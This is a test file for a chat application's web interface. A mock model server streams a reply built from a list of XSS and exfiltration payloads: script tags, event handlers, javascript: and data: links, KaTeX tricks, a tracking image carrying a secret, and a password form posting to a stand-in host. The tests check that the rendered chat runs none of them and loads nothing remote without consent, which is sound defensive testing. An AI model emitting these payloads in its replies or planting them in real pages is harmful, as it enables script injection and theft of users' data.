import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { temporaryDirectory } from '#testing/temporary-directory.ts';
import { addMember, ChatClient } from '../chat/chat-client.ts';
import { Installation } from '../system/installation.ts';
import { testOffer } from '../system/test-offer.ts';
import { CHROMIUM, launchChromium } from './chromium.ts';

/** What a hostile page or prompt may make a model say. */
const ATTACKS = `
<script>window.hacked = 1</script>
<img src=x onerror="window.hacked = 2">
<svg onload="window.hacked = 3"><script>window.hacked = 4</script></svg>
<iframe srcdoc="<script>parent.hacked = 5</script>"></iframe>
<a href="javascript:window.hacked=6" id="a6">click</a>

[link](javascript:window.hacked=7) [data](data:text/html,<script>window.hacked=8</script>)
[vb](vbscript:x) ![x](javascript:window.hacked=9)

![a picture](https://pictures.invalid/track.png?secret=1) ![two](//pictures.invalid/2.png)

<style>@import 'https://pictures.invalid/s.css'; body { display: none }</style>
<link rel="stylesheet" href="https://pictures.invalid/l.css">
<meta http-equiv="refresh" content="0;url=https://pictures.invalid/">
<form action="https://pictures.invalid/"><input name="password"></form>
<base href="https://pictures.invalid/">

$\\href{javascript:window.hacked=10}{x}$ $\\htmlData{onload=window.hacked=11}{y}$ $\\includegraphics{https://pictures.invalid/k.png}$

\`\`\`html"><img src=x onerror=window.hacked=12>
<img src=x onerror="window.hacked = 13">
\`\`\`

| a |
|---|
| <img src=x onerror=window.hacked=14> |

The end.
`;

describe.skipIf(CHROMIUM === undefined)('what a model says', () => {
  const stack = new AsyncDisposableStack();
  let page: Page;
  let asked: string[];
  let address: string;

  beforeAll(async () => {
    const { path } = stack.use(temporaryDirectory());
    const supplier = createServer((request, response) => {
      request.resume();
      response.writeHead(200, { 'content-type': 'text/event-stream' });
      const chunk = { id: 'c', object: 'chat.completion.chunk', created: 1, model: 'm' };
      const choices = [{ index: 0, delta: { content: ATTACKS }, finish_reason: 'stop' }];
      const usage = { prompt_tokens: 1, completion_tokens: 500, total_tokens: 501 };
      response.write(`data: ${JSON.stringify({ ...chunk, choices })}\n\n`);
      response.end(`data: ${JSON.stringify({ ...chunk, choices: [], usage })}\n\ndata: [DONE]\n\n`);
    });
    await new Promise<void>((resolve) => {
      supplier.listen(0, '127.0.0.1', resolve);
    });
    stack.defer(() => {
      supplier.close();
      supplier.closeAllConnections();
    });
    const installation = stack.use(
      await Installation.start({
        dataDir: join(path, 'data'),
        environment: { BREAKEVEN_WEB: 'build' },
      }),
    );
    const url = `http://127.0.0.1:${(supplier.address() as AddressInfo).port}`;
    await installation.call('POST', '/offer/apply', { document: testOffer(url) });
    const { key } = await addMember(installation);
    const client = new ChatClient(() => installation.url, key);
    const { conversation, generation } = await client.send('Attack');
    await client.follow(generation);
    const browser = await launchChromium();
    stack.defer(() => browser.close());
    const context = await browser.newContext({ baseURL: installation.url, locale: 'en' });
    // Our own key goes to our own server only, as a cookie would.
    await context.route(`${installation.url}/**`, (route) =>
      route.continue({ headers: { ...route.request().headers(), authorization: `Bearer ${key}` } }),
    );
    asked = [];
    page = await context.newPage();
    page.on('request', (request) => asked.push(request.url()));
    address = `/c/${conversation}`;
    await page.goto(address);
    await page.locator('.prose', { hasText: 'The end.' }).waitFor();
    await page.waitForTimeout(1_000);
  }, 120_000);
  afterAll(() => stack.disposeAsync());

  it('runs nothing', async () => {
    for (const link of await page.locator('.prose a').all())
      expect((await link.getAttribute('href')) ?? '').toMatch(/^(https?:|mailto:|#)|^$/);
    expect(await page.evaluate('window.hacked')).toBeUndefined();
    expect(page.url().endsWith(address)).toBe(true);
    expect(
      await page
        .locator(
          '.prose :is(script, style, iframe, form, input, link, meta, base, svg:not([aria-hidden]))',
        )
        .count(),
    ).toBe(0);
    const handlers = await page
      .locator('.prose *')
      .evaluateAll((nodes) =>
        nodes.flatMap((node) =>
          node.getAttributeNames().filter((name: string) => name.startsWith('on')),
        ),
      );
    expect(handlers).toEqual([]);
  });

  it('loads nothing from anywhere else, until the reader agrees', async () => {
    const elsewhere = (): string[] => asked.filter((url) => url.includes('pictures.invalid'));
    expect(elsewhere()).toEqual([]);
    expect(await page.locator('.prose img').count()).toBe(0);
    const buttons = page.locator('.remote-image');
    expect(await buttons.count()).toBeGreaterThan(0);
    // What is no picture of the web stays a button, whoever agrees.
    await page.locator('.remote-image[data-src^="javascript"]').evaluateAll((nodes) => {
      for (const node of nodes) (node as { click(): void }).click();
    });
    expect(await page.locator('.prose img').count()).toBe(0);
    await page.locator('.remote-image', { hasText: 'a picture' }).click();
    await expect.poll(() => page.locator('.prose img').count()).toBe(1);
    // Even then the picture comes through our own server.
    await expect.poll(elsewhere).toHaveLength(1);
    expect(elsewhere()[0]).toContain('/api/chat/picture?url=');
  });
});
